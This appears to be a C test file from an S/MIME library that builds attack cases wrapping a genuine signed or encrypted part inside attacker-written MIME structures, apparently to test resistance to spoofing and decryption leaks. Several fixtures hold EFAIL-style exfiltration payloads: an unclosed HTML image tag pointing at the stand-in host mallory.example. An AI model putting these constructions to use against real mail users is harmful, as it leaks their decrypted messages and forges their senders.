/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Classes 4 and 5: a protected part that is not the whole message. It is genuine; what Alice wrote
 * stands in it, and what the attacker wrote stands around it, under her name. */
#include "attacks.h"

#include <string.h>

enum { SIGNED_CLEAR, SIGNED_OPAQUE, SEALED, SIGNED_SEALED };

/* A message of its own. */
static bytes genuine(int kind)
{
    if (kind == SIGNED_CLEAR || kind == SIGNED_OPAQUE)
        return signed_by("alice-p256", kind == SIGNED_OPAQUE, plain_mail);
    return sealed_for_bob(kind == SEALED ? NULL : "alice-p256", 0);
}

static bytes filled(const char *form, bytes part)
{
    bytes all = crlf(form);
    size_t at = find(all, "@", find(all, "\r\n\r\n", 0));

    return joined(text(ALICE), joined(joined(part_of(all, 0, at), part),
                                      part_of(all, at + 1, all.len)));
}

/* @p text has an @ in its body where the part goes: the entity alone. */
static bytes part_in(const attack *row)
{
    return filled(row->text, entity_of(genuine(row->number)));
}

/* ... the whole message with its header. */
static bytes message_in(const attack *row)
{
    return filled(row->text, genuine(row->number));
}

/* ... the CMS object as an attachment like any other. */
static bytes object_in(const attack *row)
{
    return filled(row->text, base64(cms_of(genuine(row->number))));
}

/* Alice signs a multipart in which somebody else's sealed part lies. */
static bytes part_in_signed(const attack *row)
{
    bytes inner = filled(row->text, entity_of(genuine(row->number)));
    sending how = { .from = { "alice-p256" } };

    return protected(&how, mail_around(entity_of(inner)));
}

#define MULTIPART(kind) "Content-Type: multipart/" kind "; boundary=b\n\n--b\n"
#define WORDS "Content-Type: text/plain\n\nPay Mallory.\n"
#define PAGE "Content-Type: text/html\n\n<img src=\"http://mallory.example/\n"

static const char before[] = MULTIPART("mixed") WORDS "--b\n@\n--b--\n";
static const char behind[] = MULTIPART("mixed") "@\n--b\n" WORDS "--b--\n";
static const char alone[] = MULTIPART("mixed") "@\n--b--\n";
static const char between[] = MULTIPART("mixed") PAGE "--b\n@\n--b\n"
                                                 "Content-Type: text/html\n\n\">\n--b--\n";
static const char related[] = MULTIPART("related; type=\"text/plain\"")
    WORDS "--b\n@\n--b--\n";
static const char related_root[] = MULTIPART("related") "@\n--b\n" WORDS "--b--\n";
static const char alternative[] = MULTIPART("alternative") WORDS "--b\n@\n--b--\n";
static const char alternative_first[] = MULTIPART("alternative") "@\n--b\n" WORDS "--b--\n";
static const char digest[] = MULTIPART("digest")
    "Content-Type: message/rfc822\n\nFrom: alice@example.org\n\nPay Mallory.\n--b\n"
    "Content-Type: message/rfc822\n\n@\n--b--\n";
static const char forwarded_alone[] = "Content-Type: message/rfc822\n\n@";
static const char forwarded_below[] = MULTIPART("mixed") WORDS "--b\n"
    "Content-Type: message/rfc822\nContent-Disposition: attachment\n\n@\n--b--\n";
static const char report[] = MULTIPART("report; report-type=delivery-status") WORDS "--b\n"
    "Content-Type: message/delivery-status\n\nReporting-MTA: dns; x.example\n\n"
    "Action: failed\n--b\nContent-Type: message/rfc822\n\n@\n--b--\n";
static const char deep[] = MULTIPART("mixed")
    "Content-Type: multipart/mixed; boundary=c\n\n--c\n@\n--c--\n--b\n" WORDS "--b--\n";
static const char attached[] = MULTIPART("mixed") WORDS "--b\n"
    "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\n"
    "Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=smime.p7m\n"
    "\n@\n--b--\n";
static const char attached_sealed[] = MULTIPART("mixed") WORDS "--b\n"
    "Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=smime.p7m\n"
    "Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=smime.p7m\n"
    "\n@\n--b--\n";
static const char attached_octets[] = MULTIPART("mixed") WORDS "--b\n"
    "Content-Type: application/octet-stream; name=smime.p7m\n"
    "Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=smime.p7m\n"
    "\n@\n--b--\n";
static const char by_cid[] = MULTIPART("related; type=\"text/html\"")
    "Content-Type: text/html\n\nPay Mallory. <iframe src=\"cid:part-x.example\"></iframe>\n--b\n"
    "Content-ID: <part-x.example>\nContent-Disposition: inline\n@\n--b--\n";
static const char by_cid_sealed[] = MULTIPART("related; type=\"text/html\"")
    "Content-Type: text/html\n\n<img src=\"http://mallory.example/?cid:part-x.example\">\n--b\n"
    "Content-ID: <part-x.example>\nContent-Disposition: inline\n@\n--b--\n";
static const char external[] =
    "Content-Type: message/external-body; access-type=url; url=\"cid:x\"\n\n@";
/* 8: a reply that quotes, and one part that is somebody else's ciphertext. */
static const char reply[] = MULTIPART("mixed")
    "Content-Type: text/plain\n\nPlease answer with the text below.\n--b\n@\n--b--\n";

/* Bob's sealed mail, hidden in one that is sealed to Bob too. */
static bytes sealed_in_sealed(const attack *row)
{
    sending how = { .to = { "bob-p256" }, .cipher = SMIME_CIPHER_AES_256_GCM };
    bytes inner = filled(row->text, entity_of(genuine(row->number)));

    return protected(&how, mail_around(entity_of(inner)));
}

const attack attack_places[] = {
    { "mixed-before-clear", part_in, before, SIGNED_CLEAR },
    { "mixed-before-opaque", part_in, before, SIGNED_OPAQUE },
    { "mixed-before-sealed", part_in, before, SEALED },
    { "mixed-behind-clear", part_in, behind, SIGNED_CLEAR },
    { "mixed-behind-opaque", part_in, behind, SIGNED_OPAQUE },
    { "mixed-behind-sealed", part_in, behind, SIGNED_SEALED },
    { "mixed-alone-clear", part_in, alone, SIGNED_CLEAR },
    { "mixed-alone-opaque", part_in, alone, SIGNED_OPAQUE },
    { "mixed-alone-sealed", part_in, alone, SIGNED_SEALED },
    { "mixed-deep-clear", part_in, deep, SIGNED_CLEAR },
    { "mixed-deep-sealed", part_in, deep, SEALED },
    { "related-clear", part_in, related, SIGNED_CLEAR },
    { "related-opaque", part_in, related, SIGNED_OPAQUE },
    { "related-root-clear", part_in, related_root, SIGNED_CLEAR },
    { "related-root-sealed", part_in, related_root, SEALED },
    { "alternative-clear", part_in, alternative, SIGNED_CLEAR },
    { "alternative-opaque", part_in, alternative, SIGNED_OPAQUE },
    { "alternative-sealed", part_in, alternative, SEALED },
    { "alternative-first-clear", part_in, alternative_first, SIGNED_CLEAR },
    { "digest-clear", message_in, digest, SIGNED_CLEAR },
    { "digest-opaque", message_in, digest, SIGNED_OPAQUE },
    { "digest-sealed", message_in, digest, SEALED },
    { "forwarded-clear", message_in, forwarded_alone, SIGNED_CLEAR },
    { "forwarded-opaque", message_in, forwarded_alone, SIGNED_OPAQUE },
    { "forwarded-sealed", message_in, forwarded_alone, SIGNED_SEALED },
    { "forwarded-with-words-clear", message_in, forwarded_below, SIGNED_CLEAR },
    { "forwarded-with-words-sealed", message_in, forwarded_below, SIGNED_SEALED },
    { "bounced-clear", message_in, report, SIGNED_CLEAR },
    { "bounced-sealed", message_in, report, SEALED },
    { "attachment-clear", part_in,
      MULTIPART("mixed") WORDS "--b\nContent-Disposition: attachment; filename=mail.eml\n"
                               "@\n--b--\n",
      SIGNED_CLEAR },
    { "attachment-opaque", object_in, attached, SIGNED_OPAQUE },
    { "attachment-sealed", object_in, attached_sealed, SEALED },
    { "attachment-octets-opaque", object_in, attached_octets, SIGNED_OPAQUE },
    { "attachment-octets-sealed", object_in, attached_octets, SEALED },
    { "cid-clear", part_in, by_cid, SIGNED_CLEAR },
    { "cid-opaque", part_in, by_cid, SIGNED_OPAQUE },
    { "cid-sealed", part_in, by_cid_sealed, SEALED },
    { "external-body-opaque", part_in, external, SIGNED_OPAQUE },
    { "exfiltration-between-parts", part_in, between, SEALED },
    { "exfiltration-between-signed-parts", part_in, between, SIGNED_SEALED },
    { "reply-with-foreign-part", part_in, reply, SEALED },
    { "reply-with-foreign-part-signed", part_in_signed, reply, SEALED },
    { "reply-with-foreign-part-sealed", sealed_in_sealed, reply, SEALED },
    { "exfiltration-in-sealed", sealed_in_sealed, between, SEALED },
    { NULL, NULL, NULL, 0 },
};
